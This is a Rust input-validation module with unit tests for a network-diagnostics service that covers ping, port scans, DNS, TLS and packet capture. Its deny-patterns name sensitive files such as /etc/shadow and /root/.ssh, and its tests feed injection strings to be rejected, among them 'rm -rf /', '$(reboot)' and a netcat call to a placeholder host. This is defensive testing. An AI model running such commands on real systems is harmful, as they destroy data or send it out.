//! Input validation: the gate in front of every spawned process
//!
//! Values that match a malicious pattern are rejected outright; nothing
//! here tries to clean a value up. Numeric bounds fall back to their
//! default when out of range, except ports, which fail hard.

use regex::Regex;
use serde::Serialize;
use std::fmt;
use std::net::IpAddr;
use std::ops::RangeInclusive;
use std::sync::LazyLock;
use std::time::Duration;
use tracing::warn;

use crate::error::{ValidationErrors, ValidationIssue};
use crate::rate::{plan_scan_rate, ScanRate};
use crate::registry::Operation;
use crate::request::*;

/// Longest raw value accepted in any string field.
pub const MAX_INPUT_LEN: usize = 10_000;
/// Longest DNS hostname.
pub const MAX_HOSTNAME_LEN: usize = 253;
/// How much of a rejected value makes it into the security log.
const LOG_PREVIEW_LEN: usize = 64;

struct MaliciousPattern {
    name: &'static str,
    regex: Regex,
}

impl MaliciousPattern {
    fn new(name: &'static str, pattern: &str) -> Self {
        Self {
            name,
            regex: Regex::new(pattern).expect("invalid malicious input pattern"),
        }
    }
}

static MALICIOUS_PATTERNS: LazyLock<Vec<MaliciousPattern>> = LazyLock::new(|| {
    vec![
        MaliciousPattern::new("shell_metacharacter", r"[;&|`$()<>]"),
        MaliciousPattern::new("path_traversal", r"\.\.[/\\]"),
        MaliciousPattern::new(
            "sensitive_path",
            r"(?i)(/etc/(passwd|shadow|sudoers|hosts)|/proc/self|/root/\.ssh|c:\\windows\\system32)",
        ),
        MaliciousPattern::new("null_byte", r"\x00"),
        MaliciousPattern::new("line_break", r"[\r\n]"),
    ]
});

static HOST_LABEL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^[A-Za-z0-9_]([A-Za-z0-9_-]{0,61}[A-Za-z0-9_])?$").expect("host label regex is valid")
});

static INTERFACE_NAME: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^[A-Za-z0-9][A-Za-z0-9._:-]{0,31}$").expect("interface regex is valid")
});

static CAPTURE_FILTER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^[A-Za-z0-9][A-Za-z0-9 .:/=!\[\]\-]{0,255}$").expect("filter regex is valid")
});

/// A host that passed validation: an IP literal or a DNS name.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(transparent)]
pub struct Target(String);

impl Target {
    pub fn as_str(&self) -> &str {
        &self.0
    }

    pub fn ip(&self) -> Option<IpAddr> {
        self.0.parse().ok()
    }
}

impl fmt::Display for Target {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// An inclusive port range from a scan port list.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub struct PortRange {
    pub start: u16,
    pub end: u16,
}

/// A validated port list such as `22,80,8000-8100`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct PortSpec(Vec<PortRange>);

impl PortSpec {
    pub fn ranges(&self) -> &[PortRange] {
        &self.0
    }

    /// Number of distinct ports covered. Overlapping ranges count once.
    pub fn port_count(&self) -> usize {
        let mut ranges: Vec<(u32, u32)> = self
            .0
            .iter()
            .map(|r| (u32::from(r.start), u32::from(r.end)))
            .collect();
        ranges.sort_unstable();

        let mut total = 0usize;
        let mut covered_to = 0u32;
        for (start, end) in ranges {
            let from = start.max(covered_to + 1);
            if end >= from {
                total += (end - from + 1) as usize;
                covered_to = end;
            }
        }
        total
    }
}

impl fmt::Display for PortSpec {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let parts: Vec<String> = self
            .0
            .iter()
            .map(|r| {
                if r.start == r.end {
                    r.start.to_string()
                } else {
                    format!("{}-{}", r.start, r.end)
                }
            })
            .collect();
        f.write_str(&parts.join(","))
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum TransportProtocol {
    Tcp,
    Udp,
}

pub const DNS_RECORD_TYPES: &[&str] = &[
    "A", "AAAA", "CNAME", "MX", "NS", "TXT", "SOA", "PTR", "SRV", "CAA", "ANY",
];

pub const HTTP_METHODS: &[&str] = &["GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS", "PATCH"];

#[derive(Debug, Clone, PartialEq, Serialize)]
#[non_exhaustive]
pub struct PingParams {
    pub host: Target,
    pub count: u32,
    pub timeout_secs: u32,
}

#[derive(Debug, Clone, PartialEq, Serialize)]
#[non_exhaustive]
pub struct TracerouteParams {
    pub host: Target,
    pub max_hops: u32,
    pub timeout_secs: u32,
    pub resolve_names: bool,
}

#[derive(Debug, Clone, PartialEq, Serialize)]
#[non_exhaustive]
pub struct PortProbeParams {
    pub host: Target,
    pub port: u16,
    pub timeout_secs: u32,
}

#[derive(Debug, Clone, PartialEq, Serialize)]
#[non_exhaustive]
pub struct PortScanParams {
    pub host: Target,
    pub ports: PortSpec,
    /// Distinct ports in `ports`, counted once here
    pub port_count: usize,
    pub timeout_secs: u32,
    pub scan_delay_ms: Option<u32>,
    pub rate: ScanRate,
}

#[derive(Debug, Clone, PartialEq, Serialize)]
#[non_exhaustive]
pub struct DnsLookupParams {
    pub host: Target,
    pub record_type: &'static str,
    pub nameserver: Option<Target>,
    pub timeout_secs: u32,
}

#[derive(Debug, Clone, PartialEq, Serialize)]
#[non_exhaustive]
pub struct ReverseDnsParams {
    pub ip: IpAddr,
    pub timeout_secs: u32,
}

#[derive(Debug, Clone, PartialEq, Serialize)]
#[non_exhaustive]
pub struct TlsCertificateParams {
    pub host: Target,
    pub port: u16,
    pub server_name: Target,
    pub timeout_secs: u32,
}

#[derive(Debug, Clone, PartialEq, Serialize)]
#[non_exhaustive]
pub struct HttpProbeParams {
    pub url: String,
    pub method: &'static str,
    pub follow_redirects: bool,
    pub timeout_secs: u32,
}

#[derive(Debug, Clone, PartialEq, Serialize)]
#[non_exhaustive]
pub struct PacketCaptureParams {
    pub interface: String,
    pub count: u32,
    pub duration_secs: u32,
    pub filter: Option<String>,
}

#[derive(Debug, Clone, PartialEq, Serialize)]
#[non_exhaustive]
pub struct BandwidthTestParams {
    pub server: Target,
    pub port: u16,
    pub duration_secs: u32,
    pub protocol: TransportProtocol,
    pub reverse: bool,
    pub parallel: u32,
}

#[derive(Debug, Clone, PartialEq, Serialize)]
#[non_exhaustive]
pub struct WhoisParams {
    pub query: Target,
    pub timeout_secs: u32,
}

#[derive(Debug, Clone, PartialEq, Serialize)]
#[non_exhaustive]
pub struct GeolocationParams {
    pub host: Target,
    pub timeout_secs: u32,
}

/// Sanitized parameters. Only `validate` builds these.
#[derive(Debug, Clone, PartialEq, Serialize)]
#[serde(untagged)]
pub enum ValidatedParams {
    Ping(PingParams),
    Traceroute(TracerouteParams),
    PortProbe(PortProbeParams),
    PortScan(PortScanParams),
    DnsLookup(DnsLookupParams),
    ReverseDns(ReverseDnsParams),
    TlsCertificate(TlsCertificateParams),
    HttpProbe(HttpProbeParams),
    PacketCapture(PacketCaptureParams),
    BandwidthTest(BandwidthTestParams),
    Whois(WhoisParams),
    Geolocation(GeolocationParams),
}

/// Slack added on top of an iperf test for connection setup and teardown.
const BANDWIDTH_SLACK_SECS: u64 = 15;

impl ValidatedParams {
    pub fn operation(&self) -> Operation {
        match self {
            Self::Ping(_) => Operation::Ping,
            Self::Traceroute(_) => Operation::Traceroute,
            Self::PortProbe(_) => Operation::PortProbe,
            Self::PortScan(_) => Operation::PortScan,
            Self::DnsLookup(_) => Operation::DnsLookup,
            Self::ReverseDns(_) => Operation::ReverseDns,
            Self::TlsCertificate(_) => Operation::TlsCertificate,
            Self::HttpProbe(_) => Operation::HttpProbe,
            Self::PacketCapture(_) => Operation::PacketCapture,
            Self::BandwidthTest(_) => Operation::BandwidthTest,
            Self::Whois(_) => Operation::Whois,
            Self::Geolocation(_) => Operation::Geolocation,
        }
    }

    /// Overall wall-clock budget the caller asked for, before clipping.
    pub fn requested_timeout(&self) -> Duration {
        let secs = match self {
            Self::Ping(p) => u64::from(p.count) * u64::from(p.timeout_secs) + 2,
            Self::Traceroute(p) => p.timeout_secs.into(),
            Self::PortProbe(p) => p.timeout_secs.into(),
            Self::PortScan(p) => p.timeout_secs.into(),
            Self::DnsLookup(p) => p.timeout_secs.into(),
            Self::ReverseDns(p) => p.timeout_secs.into(),
            Self::TlsCertificate(p) => p.timeout_secs.into(),
            Self::HttpProbe(p) => p.timeout_secs.into(),
            Self::PacketCapture(p) => p.duration_secs.into(),
            Self::BandwidthTest(p) => u64::from(p.duration_secs) + BANDWIDTH_SLACK_SECS,
            Self::Whois(p) => p.timeout_secs.into(),
            Self::Geolocation(p) => p.timeout_secs.into(),
        };
        Duration::from_secs(secs)
    }
}

/// Accumulates issues across all fields of one request.
#[derive(Default)]
struct Collector {
    issues: Vec<ValidationIssue>,
}

impl Collector {
    fn take<T>(&mut self, result: Result<T, ValidationIssue>) -> Option<T> {
        match result {
            Ok(v) => Some(v),
            Err(issue) => {
                self.issues.push(issue);
                None
            }
        }
    }

    fn finish<T>(self, value: Option<T>) -> Result<T, ValidationErrors> {
        match value {
            Some(v) if self.issues.is_empty() => Ok(v),
            _ => Err(ValidationErrors(self.issues)),
        }
    }
}

/// Validate a request, substituting defaults for omitted optional fields.
pub fn validate(request: &OperationRequest) -> Result<ValidatedParams, ValidationErrors> {
    let mut c = Collector::default();

    let params = match request {
        OperationRequest::Ping(r) => {
            let host = c.take(required_host(r.host.as_deref(), "host"));
            let count = bounded(r.count, 1..=20, 4, "count");
            let timeout_secs = bounded(r.timeout, 1..=60, 5, "timeout");
            host.map(|host| {
                ValidatedParams::Ping(PingParams {
                    host,
                    count,
                    timeout_secs,
                })
            })
        }
        OperationRequest::Traceroute(r) => {
            let host = c.take(required_host(r.host.as_deref(), "host"));
            let max_hops = bounded(r.max_hops, 1..=64, 30, "max_hops");
            let timeout_secs = bounded(r.timeout, 1..=300, 60, "timeout");
            host.map(|host| {
                ValidatedParams::Traceroute(TracerouteParams {
                    host,
                    max_hops,
                    timeout_secs,
                    resolve_names: r.resolve_names.unwrap_or(true),
                })
            })
        }
        OperationRequest::PortProbe(r) => {
            let host = c.take(required_host(r.host.as_deref(), "host"));
            let port = c.take(validate_port(r.port, None, "port"));
            let timeout_secs = bounded(r.timeout, 1..=30, 5, "timeout");
            host.zip(port).map(|(host, port)| {
                ValidatedParams::PortProbe(PortProbeParams {
                    host,
                    port,
                    timeout_secs,
                })
            })
        }
        OperationRequest::PortScan(r) => {
            let host = c.take(required_host(r.host.as_deref(), "host"));
            let ports = c.take(parse_port_spec(r.ports.as_deref().unwrap_or("1-1000"), "ports"));
            let timeout_secs = bounded(r.timeout, 10..=600, 300, "timeout");
            let scan_delay_ms = r
                .scan_delay_ms
                .map(|d| bounded(Some(d), 1..=10_000, 100, "scan_delay_ms"));
            host.zip(ports).map(|(host, ports)| {
                let port_count = ports.port_count();
                ValidatedParams::PortScan(PortScanParams {
                    host,
                    ports,
                    port_count,
                    timeout_secs,
                    scan_delay_ms,
                    rate: plan_scan_rate(port_count, timeout_secs, scan_delay_ms),
                })
            })
        }
        OperationRequest::DnsLookup(r) => {
            let host = c.take(required_host(r.host.as_deref(), "host"));
            let record_type = c.take(one_of(r.record_type.as_deref(), DNS_RECORD_TYPES, "A", "record_type"));
            let nameserver = match r.nameserver.as_deref() {
                Some(ns) => c.take(validate_host(ns, "nameserver")).map(Some),
                None => Some(None),
            };
            let timeout_secs = bounded(r.timeout, 1..=30, 10, "timeout");
            match (host, record_type, nameserver) {
                (Some(host), Some(record_type), Some(nameserver)) => {
                    Some(ValidatedParams::DnsLookup(DnsLookupParams {
                        host,
                        record_type,
                        nameserver,
                        timeout_secs,
                    }))
                }
                _ => None,
            }
        }
        OperationRequest::ReverseDns(r) => {
            let ip = c.take(required_ip(r.address.as_deref(), "address"));
            let timeout_secs = bounded(r.timeout, 1..=30, 10, "timeout");
            ip.map(|ip| ValidatedParams::ReverseDns(ReverseDnsParams { ip, timeout_secs }))
        }
        OperationRequest::TlsCertificate(r) => {
            let host = c.take(required_host(r.host.as_deref(), "host"));
            let port = c.take(validate_port(r.port, Some(443), "port"));
            let server_name = match r.server_name.as_deref() {
                Some(sni) => c.take(validate_host(sni, "server_name")),
                None => host.clone(),
            };
            let timeout_secs = bounded(r.timeout, 1..=30, 10, "timeout");
            match (host, port, server_name) {
                (Some(host), Some(port), Some(server_name)) => {
                    Some(ValidatedParams::TlsCertificate(TlsCertificateParams {
                        host,
                        port,
                        server_name,
                        timeout_secs,
                    }))
                }
                _ => None,
            }
        }
        OperationRequest::HttpProbe(r) => {
            let url = c.take(required(r.url.as_deref(), "url").and_then(|u| validate_url(u, "url")));
            let method = c.take(one_of(r.method.as_deref(), HTTP_METHODS, "GET", "method"));
            let timeout_secs = bounded(r.timeout, 1..=120, 30, "timeout");
            url.zip(method).map(|(url, method)| {
                ValidatedParams::HttpProbe(HttpProbeParams {
                    url,
                    method,
                    follow_redirects: r.follow_redirects.unwrap_or(true),
                    timeout_secs,
                })
            })
        }
        OperationRequest::PacketCapture(r) => {
            let interface = c.take(
                required(r.interface.as_deref(), "interface")
                    .and_then(|i| validate_interface(i, "interface")),
            );
            let count = bounded(r.count, 1..=10_000, 100, "count");
            let duration_secs = bounded(r.duration, 1..=120, 10, "duration");
            let filter = match r.filter.as_deref().map(str::trim) {
                Some("") | None => Some(None),
                Some(f) => c.take(validate_capture_filter(f, "filter")).map(Some),
            };
            interface.zip(filter).map(|(interface, filter)| {
                ValidatedParams::PacketCapture(PacketCaptureParams {
                    interface,
                    count,
                    duration_secs,
                    filter,
                })
            })
        }
        OperationRequest::BandwidthTest(r) => {
            let server = c.take(required_host(r.server.as_deref(), "server"));
            let port = c.take(validate_port(r.port, Some(5201), "port"));
            let duration_secs = bounded(r.duration, 1..=60, 10, "duration");
            let protocol = match r.protocol.as_deref().map(str::to_ascii_lowercase).as_deref() {
                None | Some("tcp") => Some(TransportProtocol::Tcp),
                Some("udp") => Some(TransportProtocol::Udp),
                Some(other) => {
                    c.take::<()>(Err(ValidationIssue::new(
                        "protocol",
                        format!("must be tcp or udp, got '{}'", preview(other)),
                    )));
                    None
                }
            };
            let parallel = bounded(r.parallel, 1..=16, 1, "parallel");
            match (server, port, protocol) {
                (Some(server), Some(port), Some(protocol)) => {
                    Some(ValidatedParams::BandwidthTest(BandwidthTestParams {
                        server,
                        port,
                        duration_secs,
                        protocol,
                        reverse: r.reverse.unwrap_or(false),
                        parallel,
                    }))
                }
                _ => None,
            }
        }
        OperationRequest::Whois(r) => {
            let query = c.take(required_host(r.query.as_deref(), "query"));
            let timeout_secs = bounded(r.timeout, 1..=60, 30, "timeout");
            query.map(|query| ValidatedParams::Whois(WhoisParams { query, timeout_secs }))
        }
        OperationRequest::Geolocation(r) => {
            let host = c.take(required_host(r.host.as_deref(), "host"));
            let timeout_secs = bounded(r.timeout, 1..=30, 10, "timeout");
            host.map(|host| ValidatedParams::Geolocation(GeolocationParams { host, timeout_secs }))
        }
    };

    c.finish(params)
}

/// Reject values matching any malicious pattern or exceeding the length ceiling.
///
/// Every rejection is logged as a security event with a bounded preview.
pub fn scan_malicious(value: &str, field: &str) -> Result<(), ValidationIssue> {
    if value.len() > MAX_INPUT_LEN {
        warn!(
            target: "security",
            field,
            pattern = "length_ceiling",
            length = value.len(),
            preview = %preview(value),
            "rejected oversized input"
        );
        return Err(ValidationIssue::new(
            field,
            format!("exceeds {MAX_INPUT_LEN} characters"),
        ));
    }

    if let Some(pattern) = MALICIOUS_PATTERNS.iter().find(|p| p.regex.is_match(value)) {
        warn!(
            target: "security",
            field,
            pattern = pattern.name,
            preview = %preview(value),
            "rejected malicious input"
        );
        return Err(ValidationIssue::new(
            field,
            format!("contains disallowed content ({})", pattern.name),
        ));
    }
    Ok(())
}

/// Validate an IPv4/IPv6 literal or DNS hostname.
pub fn validate_host(raw: &str, field: &str) -> Result<Target, ValidationIssue> {
    scan_malicious(raw, field)?;
    let host = raw.trim();
    if host.is_empty() {
        return Err(ValidationIssue::new(field, "must not be empty"));
    }
    if host.parse::<IpAddr>().is_ok() {
        return Ok(Target(host.to_string()));
    }
    if host.len() > MAX_HOSTNAME_LEN {
        return Err(ValidationIssue::new(
            field,
            format!("hostname exceeds {MAX_HOSTNAME_LEN} characters"),
        ));
    }
    let name = host.strip_suffix('.').unwrap_or(host);
    // An all-numeric final label is a malformed address, not a name.
    let numeric_tld = name
        .rsplit('.')
        .next()
        .is_some_and(|tld| tld.chars().all(|c| c.is_ascii_digit()));
    if name.is_empty() || numeric_tld || !name.split('.').all(|label| HOST_LABEL.is_match(label)) {
        return Err(ValidationIssue::new(
            field,
            format!("'{}' is not a valid IP address or hostname", preview(host)),
        ));
    }
    Ok(Target(host.to_ascii_lowercase()))
}

/// Validate a port. `None` takes `default`; no default means the port is required.
pub fn validate_port(
    value: Option<i64>,
    default: Option<u16>,
    field: &str,
) -> Result<u16, ValidationIssue> {
    match (value, default) {
        (None, Some(d)) => Ok(d),
        (None, None) => Err(ValidationIssue::new(field, "is required")),
        (Some(v), _) => u16::try_from(v)
            .ok()
            .filter(|p| *p >= 1)
            .ok_or_else(|| ValidationIssue::new(field, format!("{v} is outside 1-65535"))),
    }
}

/// Range-check a numeric field, falling back to `default` when out of range.
pub fn bounded(value: Option<i64>, range: RangeInclusive<i64>, default: u32, field: &str) -> u32 {
    match value {
        None => default,
        Some(v) if range.contains(&v) => v as u32,
        Some(v) => {
            warn!(
                field,
                value = v,
                min = range.start(),
                max = range.end(),
                default,
                "numeric parameter out of range, using default"
            );
            default
        }
    }
}

/// Parse a scan port list; every port must lie in 1-65535.
pub fn parse_port_spec(raw: &str, field: &str) -> Result<PortSpec, ValidationIssue> {
    scan_malicious(raw, field)?;
    let parse_one = |s: &str| -> Result<u16, ValidationIssue> {
        let n: i64 = s
            .trim()
            .parse()
            .map_err(|_| ValidationIssue::new(field, format!("'{}' is not a port", preview(s))))?;
        validate_port(Some(n), None, field)
    };

    let mut ranges = Vec::new();
    for token in raw.split(',').map(str::trim) {
        if token.is_empty() {
            return Err(ValidationIssue::new(field, "contains an empty entry"));
        }
        let range = match token.split_once('-') {
            Some((a, b)) => {
                let (start, end) = (parse_one(a)?, parse_one(b)?);
                if start > end {
                    return Err(ValidationIssue::new(
                        field,
                        format!("range {start}-{end} is reversed"),
                    ));
                }
                PortRange { start, end }
            }
            None => {
                let p = parse_one(token)?;
                PortRange { start: p, end: p }
            }
        };
        ranges.push(range);
    }
    Ok(PortSpec(ranges))
}

/// Validate an http(s) URL and the host inside it.
pub fn validate_url(raw: &str, field: &str) -> Result<String, ValidationIssue> {
    let url = raw.trim();
    let lower = url.to_ascii_lowercase();
    let rest = if lower.starts_with("https://") {
        &url[8..]
    } else if lower.starts_with("http://") {
        &url[7..]
    } else {
        return Err(ValidationIssue::new(field, "scheme must be http or https"));
    };
    scan_malicious(url, field)?;

    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
    if authority.contains('@') {
        return Err(ValidationIssue::new(field, "credentials in URLs are not accepted"));
    }
    let host = if let Some(bracketed) = authority.strip_prefix('[') {
        let (ip, after) = bracketed
            .split_once(']')
            .ok_or_else(|| ValidationIssue::new(field, "unterminated IPv6 literal"))?;
        check_url_port(after, field)?;
        ip
    } else {
        match authority.rsplit_once(':') {
            Some((h, port)) => {
                check_url_port(&format!(":{port}"), field)?;
                h
            }
            None => authority,
        }
    };
    validate_host(host, field)?;
    Ok(url.to_string())
}

fn check_url_port(suffix: &str, field: &str) -> Result<(), ValidationIssue> {
    match suffix.strip_prefix(':') {
        None if suffix.is_empty() => Ok(()),
        None => Err(ValidationIssue::new(field, "malformed authority")),
        Some(port) => {
            let n: i64 = port
                .parse()
                .map_err(|_| ValidationIssue::new(field, "malformed port"))?;
            validate_port(Some(n), None, field).map(|_| ())
        }
    }
}

fn validate_interface(raw: &str, field: &str) -> Result<String, ValidationIssue> {
    scan_malicious(raw, field)?;
    if !INTERFACE_NAME.is_match(raw) {
        return Err(ValidationIssue::new(
            field,
            format!("'{}' is not a valid interface name", preview(raw)),
        ));
    }
    Ok(raw.to_string())
}

fn validate_capture_filter(raw: &str, field: &str) -> Result<String, ValidationIssue> {
    scan_malicious(raw, field)?;
    if !CAPTURE_FILTER.is_match(raw) {
        return Err(ValidationIssue::new(
            field,
            "filter may only contain letters, digits, spaces and . : / = ! [ ] -",
        ));
    }
    Ok(raw.to_string())
}

fn required<'a>(value: Option<&'a str>, field: &str) -> Result<&'a str, ValidationIssue> {
    value
        .filter(|v| !v.trim().is_empty())
        .ok_or_else(|| ValidationIssue::new(field, "is required"))
}

fn required_host(value: Option<&str>, field: &str) -> Result<Target, ValidationIssue> {
    validate_host(required(value, field)?, field)
}

fn required_ip(value: Option<&str>, field: &str) -> Result<IpAddr, ValidationIssue> {
    let raw = required(value, field)?;
    scan_malicious(raw, field)?;
    raw.trim()
        .parse()
        .map_err(|_| ValidationIssue::new(field, format!("'{}' is not an IP address", preview(raw))))
}

fn one_of(
    value: Option<&str>,
    allowed: &[&'static str],
    default: &'static str,
    field: &str,
) -> Result<&'static str, ValidationIssue> {
    let Some(raw) = value else {
        return Ok(default);
    };
    allowed
        .iter()
        .copied()
        .find(|a| a.eq_ignore_ascii_case(raw.trim()))
        .ok_or_else(|| {
            ValidationIssue::new(
                field,
                format!("'{}' is not one of {}", preview(raw), allowed.join(", ")),
            )
        })
}

/// Bounded, escaped rendering of untrusted input for logs and messages.
pub fn preview(value: &str) -> String {
    let mut out: String = value.chars().take(LOG_PREVIEW_LEN).collect::<String>().escape_debug().to_string();
    if value.chars().count() > LOG_PREVIEW_LEN {
        out.push_str("...");
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ping(host: Option<&str>) -> OperationRequest {
        OperationRequest::Ping(PingRequest {
            host: host.map(String::from),
            ..Default::default()
        })
    }

    #[test]
    fn test_malicious_inputs_are_rejected() {
        let long = "a".repeat(MAX_INPUT_LEN + 1);
        for bad in [
            "example.com; rm -rf /",
            "../../etc/passwd",
            long.as_str(),
            "example.com\0",
            "$(reboot)",
            "host`id`",
            "a.com | nc evil 1",
        ] {
            let err = validate(&ping(Some(bad))).unwrap_err();
            assert!(!err.is_empty(), "accepted {bad:?}");
        }
    }

    #[test]
    fn test_valid_hosts() {
        for good in ["8.8.8.8", "2001:4860:4860::8888", "example.com", "a-b.example.co.uk.", "_sip._tcp.example.com"] {
            assert!(validate_host(good, "host").is_ok(), "rejected {good}");
        }
        assert_eq!(validate_host("Example.COM", "host").unwrap().as_str(), "example.com");
    }

    #[test]
    fn test_invalid_hosts() {
        let too_long = format!("{}.com", "a".repeat(MAX_HOSTNAME_LEN));
        for bad in ["", "-oX.example", "exa mple.com", "a..b", too_long.as_str(), "256.1.1.1.1"] {
            assert!(validate_host(bad, "host").is_err(), "accepted {bad:?}");
        }
    }

    #[test]
    fn test_target_is_required() {
        let err = validate(&ping(None)).unwrap_err();
        assert_eq!(err.issues()[0].field, "host");
        assert_eq!(err.issues()[0].message, "is required");

        let err = validate(&ping(Some("  "))).unwrap_err();
        assert_eq!(err.len(), 1);
    }

    #[test]
    fn test_ping_defaults() {
        let ValidatedParams::Ping(p) = validate(&ping(Some("8.8.8.8"))).unwrap() else {
            panic!("wrong variant");
        };
        assert_eq!(p.count, 4);
        assert_eq!(p.timeout_secs, 5);
    }

    #[test]
    fn test_out_of_range_numbers_fall_back_to_default() {
        let req = OperationRequest::Ping(PingRequest {
            host: Some("8.8.8.8".into()),
            count: Some(500),
            timeout: Some(-3),
        });
        let ValidatedParams::Ping(p) = validate(&req).unwrap() else {
            panic!("wrong variant");
        };
        assert_eq!(p.count, 4);
        assert_eq!(p.timeout_secs, 5);
    }

    #[test]
    fn test_out_of_range_port_fails_hard() {
        for port in [0, 65536, -1] {
            let req = OperationRequest::PortProbe(PortProbeRequest {
                host: Some("example.com".into()),
                port: Some(port),
                timeout: None,
            });
            let err = validate(&req).unwrap_err();
            assert_eq!(err.issues()[0].field, "port");
        }
    }

    #[test]
    fn test_errors_are_collected_across_fields() {
        let req = OperationRequest::PortProbe(PortProbeRequest {
            host: Some("bad;host".into()),
            port: None,
            timeout: None,
        });
        let err = validate(&req).unwrap_err();
        let fields: Vec<_> = err.issues().iter().map(|i| i.field.as_str()).collect();
        assert_eq!(fields, vec!["host", "port"]);
    }

    #[test]
    fn test_port_spec() {
        let spec = parse_port_spec("22, 80,8000-8002,80", "ports").unwrap();
        assert_eq!(spec.to_string(), "22,80,8000-8002,80");
        assert_eq!(spec.port_count(), 5);
        assert_eq!(parse_port_spec("1-100,50-150,150,200", "ports").unwrap().port_count(), 151);

        assert!(parse_port_spec("0-10", "ports").is_err());
        assert!(parse_port_spec("1-70000", "ports").is_err());
        assert!(parse_port_spec("100-10", "ports").is_err());
        assert!(parse_port_spec("22,,80", "ports").is_err());
        assert!(parse_port_spec("http", "ports").is_err());
    }

    #[test]
    fn test_wide_overlapping_port_lists_are_counted_once() {
        let raw = vec!["1-65535"; 1250].join(",");
        let started = std::time::Instant::now();
        let spec = parse_port_spec(&raw, "ports").unwrap();
        assert_eq!(spec.port_count(), 65535);
        assert!(started.elapsed() < std::time::Duration::from_millis(500));

        let req = OperationRequest::PortScan(PortScanRequest {
            host: Some("scanme.nmap.org".into()),
            ports: Some(raw),
            timeout: Some(60),
            scan_delay_ms: None,
        });
        match validate(&req).unwrap() {
            ValidatedParams::PortScan(p) => {
                assert_eq!(p.port_count, 65535);
                assert_eq!(p.rate.rate, 100.0);
            }
            other => panic!("unexpected params: {other:?}"),
        }
    }

    #[test]
    fn test_url_validation() {
        assert!(validate_url("https://example.com/path?q=1", "url").is_ok());
        assert!(validate_url("http://[::1]:8080/", "url").is_ok());
        assert!(validate_url("HTTP://Example.com:443", "url").is_ok());

        assert!(validate_url("ftp://example.com", "url").is_err());
        assert!(validate_url("file:///etc/passwd", "url").is_err());
        assert!(validate_url("https://example.com/$(id)", "url").is_err());
        assert!(validate_url("https://user:pw@example.com", "url").is_err());
        assert!(validate_url("https://example.com:99999/", "url").is_err());
        assert!(validate_url("https://example.com/../../etc/passwd", "url").is_err());
    }

    #[test]
    fn test_dns_record_type_is_normalized() {
        let req = OperationRequest::DnsLookup(DnsLookupRequest {
            host: Some("example.com".into()),
            record_type: Some("mx".into()),
            ..Default::default()
        });
        let ValidatedParams::DnsLookup(p) = validate(&req).unwrap() else {
            panic!("wrong variant");
        };
        assert_eq!(p.record_type, "MX");
        assert_eq!(p.nameserver, None);

        let req = OperationRequest::DnsLookup(DnsLookupRequest {
            host: Some("example.com".into()),
            record_type: Some("AXFR".into()),
            ..Default::default()
        });
        assert!(validate(&req).is_err());
    }

    #[test]
    fn test_reverse_dns_requires_ip() {
        let req = OperationRequest::ReverseDns(ReverseDnsRequest {
            address: Some("example.com".into()),
            timeout: None,
        });
        let err = validate(&req).unwrap_err();
        assert!(err.to_string().contains("address"), "{err}");
    }

    #[test]
    fn test_capture_filter_and_interface() {
        let req = OperationRequest::PacketCapture(PacketCaptureRequest {
            interface: Some("eth0".into()),
            filter: Some("tcp port 443 and host 10.0.0.1".into()),
            ..Default::default()
        });
        assert!(validate(&req).is_ok());

        for (iface, filter) in [
            ("-i", None),
            ("eth0", Some("-w /tmp/x")),
            ("eth0", Some("port 80; reboot")),
            ("eth0", Some("(port 80)")),
        ] {
            let req = OperationRequest::PacketCapture(PacketCaptureRequest {
                interface: Some(iface.into()),
                filter: filter.map(String::from),
                ..Default::default()
            });
            assert!(validate(&req).is_err(), "accepted {iface} {filter:?}");
        }
    }

    #[test]
    fn test_tls_server_name_defaults_to_host() {
        let req = OperationRequest::TlsCertificate(TlsCertificateRequest {
            host: Some("example.com".into()),
            ..Default::default()
        });
        let ValidatedParams::TlsCertificate(p) = validate(&req).unwrap() else {
            panic!("wrong variant");
        };
        assert_eq!(p.port, 443);
        assert_eq!(p.server_name.as_str(), "example.com");
    }

    #[test]
    fn test_requested_timeout() {
        let v = validate(&ping(Some("8.8.8.8"))).unwrap();
        assert_eq!(v.requested_timeout(), Duration::from_secs(4 * 5 + 2));
    }

    #[test]
    fn test_preview_is_bounded_and_escaped() {
        let p = preview(&"x\n".repeat(100));
        assert!(p.ends_with("..."));
        assert!(!p.contains('\n'));
    }
}
